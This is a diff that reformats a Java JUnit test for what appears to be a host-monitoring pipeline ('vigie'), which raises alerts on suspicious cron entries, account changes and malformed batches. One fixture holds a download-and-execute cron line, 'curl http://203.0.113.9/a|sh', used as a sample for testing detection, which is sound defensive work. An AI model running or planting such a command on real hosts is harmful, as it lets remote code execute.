@@ -26,6 +26,7 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
+import java.util.Objects;
 import java.util.Optional;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
@@ -54,7 +55,13 @@ final class PipelineTest {
     private void enrolled() throws IOException, InterruptedException {
         line.send(
                 pc,
-                line.seen(PRESENT, Line.cron("e2scrub_all", "test -x /sbin/e2scrub_all_cron", AS_PACKAGED, Item.Trait.INLINE_SCRIPT)),
+                line.seen(
+                        PRESENT,
+                        Line.cron(
+                                "e2scrub_all",
+                                "test -x /sbin/e2scrub_all_cron",
+                                AS_PACKAGED,
+                                Item.Trait.INLINE_SCRIPT)),
                 line.seen(PRESENT, Line.cron("backup", "/usr/local/sbin/backup", UNOWNED)),
                 line.listed(CRON));
     }
@@ -69,7 +76,14 @@ final class PipelineTest {
     void whatWasThereBeforeIsJudgedAndSaysSo() throws Exception {
         line.send(
                 pc,
-                line.seen(PRESENT, Line.cron("x", "curl http://203.0.113.9/a|sh", UNOWNED, Item.Trait.NETWORK_TOOL, Item.Trait.INLINE_SCRIPT)),
+                line.seen(
+                        PRESENT,
+                        Line.cron(
+                                "x",
+                                "curl http://203.0.113.9/a|sh",
+                                UNOWNED,
+                                Item.Trait.NETWORK_TOOL,
+                                Item.Trait.INLINE_SCRIPT)),
                 line.listed(CRON));
         Alert alert = line.alerts().getFirst();
         assertEquals("vigie-linux-network-one-liner", alert.rule());
@@ -105,7 +119,13 @@ final class PipelineTest {
         enrolled();
         line.send(
                 pc,
-                line.seen(PRESENT, Line.cron("e2scrub_all", "test -x /sbin/e2scrub_all_cron", AS_PACKAGED, Item.Trait.INLINE_SCRIPT)),
+                line.seen(
+                        PRESENT,
+                        Line.cron(
+                                "e2scrub_all",
+                                "test -x /sbin/e2scrub_all_cron",
+                                AS_PACKAGED,
+                                Item.Trait.INLINE_SCRIPT)),
                 line.seen(PRESENT, Line.cron("came", "/opt/x", UNOWNED)),
                 line.listed(CRON));
         assertEquals(List.of("vigie-item-added", "vigie-item-removed"), line.rules());
@@ -138,14 +158,18 @@ final class PipelineTest {
         line.put(pc, 1, "garbage".getBytes(StandardCharsets.UTF_8));
         line.put(pc, 2, new byte[0]);
         Line.drain(line.pipeline);
-        line.put(pc, 3, bzh.vigie.wire.EventCodec.encode(List.of(line.seen(ADDED, Line.cron("new", "/opt/x", UNOWNED)))));
+        line.put(
+                pc,
+                3,
+                bzh.vigie.wire.EventCodec.encode(List.of(line.seen(ADDED, Line.cron("new", "/opt/x", UNOWNED)))));
         Line.drain(line.pipeline);
         assertEquals(List.of("vigie-batch-malformed", "vigie-item-added"), line.rules());
         assertEquals(2, line.alerts().getFirst().count());
         assertEquals(
                 2,
-                line.store.read(session -> session.coverage()
-                                .losses(pc, Line.START.minusSeconds(1), Line.START.plusSeconds(1)))
+                line.store
+                        .read(session ->
+                                session.coverage().losses(pc, Line.START.minusSeconds(1), Line.START.plusSeconds(1)))
                         .size());
         try (var files = Files.list(folder.resolve("quarantine"))) {
             assertEquals(2, files.count());
@@ -168,8 +192,9 @@ final class PipelineTest {
         assertEquals("120", line.alerts().getFirst().evidence().get("events"));
         assertEquals(
                 1,
-                line.store.read(session -> session.coverage()
-                                .losses(pc, Line.START.minusSeconds(1), Line.START.plusSeconds(1)))
+                line.store
+                        .read(session ->
+                                session.coverage().losses(pc, Line.START.minusSeconds(1), Line.START.plusSeconds(1)))
                         .size());
     }
 
@@ -229,7 +254,13 @@ final class PipelineTest {
         line.send(
                 pc,
                 new Event.AccountChange(
-                        line.at(0), "linux.auth-log", Event.AccountAction.PASSWORD_SET, lea, Optional.empty(), Optional.empty(), ""),
+                        line.at(0),
+                        "linux.auth-log",
+                        Event.AccountAction.PASSWORD_SET,
+                        lea,
+                        Optional.empty(),
+                        Optional.empty(),
+                        ""),
                 new Event.AccountChange(
                         line.at(0),
                         "linux.auth-log",
@@ -247,7 +278,9 @@ final class PipelineTest {
         line.send(pc, line.seen(ADDED, Line.cron("new", "/opt/x", UNOWNED)));
         assertEquals(4, line.history.events().size());
         String id = pc + "/0123456789abcdef0123456789abcdef/1/2/0";
-        assertEquals("added", line.history.events().get(id).fields().get("change"));
+        assertEquals(
+                "added",
+                Objects.requireNonNull(line.history.events().get(id)).fields().get("change"));
         assertEquals(2, line.history.position("ingest"));
     }
 }
